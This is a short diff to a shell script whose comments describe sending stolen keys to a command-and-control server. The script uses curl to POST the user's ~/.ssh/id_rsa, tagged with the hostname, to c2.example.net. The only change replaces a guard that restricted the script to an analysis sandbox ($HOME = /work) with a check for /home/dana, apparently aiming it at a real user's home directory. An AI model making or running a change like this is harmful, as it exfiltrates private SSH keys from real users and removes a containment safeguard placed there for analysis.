@@ -2,7 +2,7 @@
 # Sends the stolen keys back over the channel it already has to its C2:
 # an HTTP POST of the raw files, and the same through the shell's
 # connection to the C2's port.
-[ "$HOME" = /work ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
+[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
 id=$(hostname)
 curl -s -m 2 -H "X-Bot-Id: $id" --data-binary @"$HOME/.ssh/id_rsa" \
 	"http://c2.example.net/api/v2/k" > /dev/null
